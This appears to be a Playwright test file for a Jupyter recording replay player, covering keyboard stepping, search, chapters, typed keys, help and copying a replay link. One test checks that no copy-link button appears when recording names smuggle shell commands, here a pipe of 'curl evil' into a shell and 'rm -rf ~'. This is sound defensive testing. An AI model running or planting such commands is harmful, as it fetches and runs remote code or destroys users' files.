"""A reader's tools in the player: steps, search, chapters, typed keys, help, a link to a moment."""

from __future__ import annotations

import json
from pathlib import Path

import fixture_recording
import pytest
from fixture_recording import START, Journal
from lab import play_button, player_frame, position, slider
from playwright.sync_api import FrameLocator, Locator, Page, expect
from test_player import alone, place, terminal

from jupyter_recorder.replay.bundle import ReplayData


@pytest.fixture
def frame(page: Page, tmp_path: Path) -> FrameLocator:
    """The player with the whole fixture."""
    place(page, tmp_path, fixture_recording.recording())
    return player_frame(page)


def search_field(frame: FrameLocator) -> Locator:
    return frame.get_by_role("searchbox", name="Search the recording")


def search(frame: FrameLocator, query: str) -> None:
    slider(frame).press("/")
    search_field(frame).fill(query)


def test_keys_step_by_what_was_recorded(frame: FrameLocator, troubles: list[str]) -> None:
    """`.`, `c`, `t` and `m` go to the next event, cell, command and message; `,` and Shift go back."""
    moments = []
    for key in ("c", "c", "m", "m", "t", "Shift+M", "Shift+C", ".", ","):
        slider(frame).press(key)
        moments.append(position(frame))
    assert moments == [0.5, 4.5, 14.0, 15.5, 18.0, 15.5, 4.5, 5.0, 4.5]
    assert troubles == []


def test_buttons_step_by_what_is_chosen(frame: FrameLocator) -> None:
    """The two buttons go by chapters at first, and then by what the menu says."""
    on, back = (frame.get_by_role("button", name=name) for name in ("Step on", "Step back"))
    on.click()
    on.click()
    assert position(frame) == 4.0
    frame.get_by_label("Step by").select_option("Message")
    on.click()
    assert position(frame) == 14.0
    back.click()
    assert position(frame) == 0.0


def test_the_menu_offers_no_step_that_there_is_none_of(page: Page, tmp_path: Path) -> None:
    """A bare terminal has events, and no cells or messages to step by."""
    place(page, tmp_path, terminal({"version": 2, "width": 40, "height": 6}, [0, "o", "a"], [1, "o", "b"]))
    expect(player_frame(page).get_by_label("Step by").locator("option")).to_have_text(["Event"])


def test_search_finds_everything_and_jumps(frame: FrameLocator, troubles: list[str]) -> None:
    """Hits of all tracks are listed in order of time; one that is chosen is shown and marked."""
    search(frame, "HOLDOUT")
    hits = frame.get_by_role("list", name="Hits").get_by_role("button")
    expect(hits).to_have_count(8)
    expect(frame.locator(".count")).to_have_text("8 hits")
    expect(hits.locator(".kind")).to_have_text(["terminal", "source", "output", "output", "note", *["source"] * 3])
    hits.nth(4).click()
    assert position(frame) == 33.0
    expect(frame.locator(".count")).to_have_text("5 of 8")
    expect(frame.locator(".cells")).to_contain_text("holdout was never loaded")
    marked = "() => Array.from(CSS.highlights.get('search-hit') ?? [], String).join()"
    page = frame.owner.page
    child = page.frames[-1]
    child.wait_for_function(f"({marked})() === 'holdout'")
    assert troubles == []


def test_enter_goes_from_hit_to_hit(frame: FrameLocator) -> None:
    """Enter goes on, Shift+Enter back, round at the ends; `n` does so outside the field."""
    search(frame, "epoch 1")
    field = search_field(frame)
    field.press("Enter")
    expect(frame.locator(".count")).to_have_text("1 of 1")
    field.fill("pytest")
    expect(frame.locator(".count")).to_have_text("3 hits")
    positions = []
    for key in ("Enter", "Enter", "Shift+Enter", "Shift+Enter"):
        field.press(key)
        positions.append(position(frame))
    assert positions[0] == positions[2]
    assert positions[0] < positions[1]
    assert positions[3] == max(positions)
    slider(frame).press("n")
    assert position(frame) == positions[0]


def test_search_pauses_at_a_hit(frame: FrameLocator) -> None:
    """A jump to a hit stops playback: the reader wants to look."""
    play_button(frame).click()
    search(frame, "Thanks")
    search_field(frame).press("Enter")
    expect(play_button(frame)).to_have_attribute("aria-label", "Play")
    assert position(frame) == 26.0


def test_what_is_nowhere_is_said(frame: FrameLocator) -> None:
    """No hit is one plain sentence, and nothing moves."""
    search(frame, "xyzzy")
    expect(frame.locator(".count")).to_have_text("Nothing found")
    search_field(frame).press("Enter")
    assert position(frame) == 0.0


def test_find_of_the_browser_opens_search(frame: FrameLocator) -> None:
    """Ctrl+F in the player opens its search: the browser's own sees one moment only."""
    slider(frame).press("Control+f")
    expect(search_field(frame)).to_be_focused()


def test_on_a_narrow_page_a_hit_brings_its_track(page: Page, tmp_path: Path) -> None:
    """Where one track is shown at a time, it is the hit's."""
    page.set_viewport_size({"width": 640, "height": 800})
    place(page, tmp_path, fixture_recording.recording())
    frame = player_frame(page)
    search(frame, "Thanks")
    search_field(frame).press("Enter")
    search_field(frame).press("Escape")
    expect(frame.locator(".chat")).to_be_visible()
    expect(frame.locator(".cells")).not_to_be_visible()


def test_chapters_open_and_are_chosen_by_keys(frame: FrameLocator) -> None:
    """The list opens at the current chapter; arrows move in it, Enter jumps, Escape gives the focus back."""
    slider(frame).press("]")
    slider(frame).press("o")
    chapters = frame.get_by_role("list", name="Chapters").get_by_role("button")
    expect(chapters.first).to_be_focused()
    expect(chapters.first).to_have_attribute("aria-current", "true")
    chapters.first.press("ArrowDown")
    chapters.nth(1).press("Enter")
    assert position(frame) == 4.0
    expect(chapters.nth(1)).to_have_attribute("aria-current", "true")
    chapters.nth(1).press("Escape")
    expect(frame.locator(".drawer")).to_be_hidden()
    expect(slider(frame)).to_be_focused()


def typed() -> ReplayData:
    """A terminal whose input was recorded."""
    keys = [[1 + index / 10, "i", key] for index, key in enumerate("ls\r\x03")]
    return terminal({"version": 2, "width": 40, "height": 6}, [0, "o", "$ "], *keys, [9, "o", "bye"])


def test_typed_keys_are_shown_for_a_moment(page: Page, tmp_path: Path) -> None:
    """Where input was recorded its keys stand over the terminal, until `k` hides them or time passes."""
    place(page, tmp_path, typed(), start=1.35)
    frame = player_frame(page)
    keys = frame.locator(".keystrokes kbd")
    expect(keys).to_have_text(["l", "s", "⏎", "Ctrl+C"])
    slider(frame).press("k")
    expect(frame.locator(".keystrokes")).to_be_hidden()
    slider(frame).press("k")
    expect(keys).to_have_count(4)
    slider(frame).press("End")
    expect(frame.locator(".keystrokes")).to_be_hidden()


def test_without_recorded_input_there_is_no_button_for_it(frame: FrameLocator) -> None:
    """The button for typed keys stands only where there are some."""
    expect(frame.get_by_role("button", name="Search")).to_be_visible()
    expect(frame.get_by_role("button", name="Keys that were typed")).to_be_hidden()


def test_help_tells_every_key(frame: FrameLocator) -> None:
    """`?` opens a sheet of keys; keys mean nothing behind it, and Escape closes it."""
    slider(frame).press("?")
    sheet = frame.get_by_role("dialog", name="Keyboard")
    expect(sheet).to_contain_text("Play or pause")
    sheet.press("End")
    assert position(frame) == 0.0
    sheet.press("Escape")
    expect(sheet).to_be_hidden()
    expect(slider(frame)).to_be_focused()


def test_a_link_to_the_moment_is_copied(frame: FrameLocator, page: Page, troubles: list[str]) -> None:
    """`l` copies the line that replays from here, and says so."""
    slider(frame).press("]")
    slider(frame).press("l")
    line = "%record replay riders-20261120-231501 --start 0.5"
    expect(frame.locator(".toast")).to_have_text(f"Copied: {line}")
    page.evaluate("document.body.append(Object.assign(document.createElement('textarea'), {id: 'paste'}))")
    page.locator("#paste").press("Control+v")
    expect(page.locator("#paste")).to_have_value(line)
    assert troubles == []


def test_a_hostile_name_is_no_line_to_paste(page: Page, tmp_path: Path) -> None:
    """A name that would do more when it is pasted gives no link."""
    journal = Journal(id="x; !curl evil | sh", name="x")
    journal.add(0, "marker", label="here")
    place(page, tmp_path, alone(journal, id="x\n!rm -rf ~", started_at=START))
    frame = player_frame(page)
    expect(frame.get_by_role("button", name="Search")).to_be_visible()
    expect(frame.get_by_role("button", name="Copy a link to this moment")).to_be_hidden()


def test_a_host_is_told_of_the_moment(page: Page, tmp_path: Path) -> None:
    """With a host on the port, `l` tells it the moment that a link is asked for."""
    place(page, tmp_path, fixture_recording.recording(), start=13.0)
    frame = player_frame(page)
    slider(frame).wait_for()
    page.evaluate("""() => {
        const channel = new MessageChannel();
        window.heard = [];
        channel.port1.onmessage = event => window.heard.push(event.data);
        document.querySelector('iframe').contentWindow.postMessage({type: 'port'}, '*', [channel.port2]);
    }""")
    page.wait_for_function("() => window.heard.some(one => one.type === 'state')")
    slider(frame).press("l")
    page.wait_for_function("() => window.heard.some(one => one.type === 'moment')")
    assert json.loads(page.evaluate("JSON.stringify(window.heard.find(one => one.type === 'moment'))")) == {
        "type": "moment",
        "t": 13,
    }


def test_speed_changes_while_it_plays(frame: FrameLocator) -> None:
    """A change of speed does not stop playback, and is announced."""
    play_button(frame).click()
    slider(frame).press(">")
    expect(frame.get_by_label("Speed")).to_have_value("1.5")
    expect(play_button(frame)).to_have_attribute("aria-label", "Pause")
    expect(frame.locator(".toast")).to_have_text("Speed 1.5")


def test_what_plays_is_read_out_and_a_jump_is_not(frame: FrameLocator) -> None:
    """The tracks are live regions only while it plays: a jump would read out the whole notebook."""
    cells = frame.locator(".cells")
    slider(frame).press("End")
    expect(cells).to_have_attribute("aria-live", "off")
    slider(frame).press("Home")
    play_button(frame).click()
    expect(cells).to_have_attribute("aria-live", "polite")
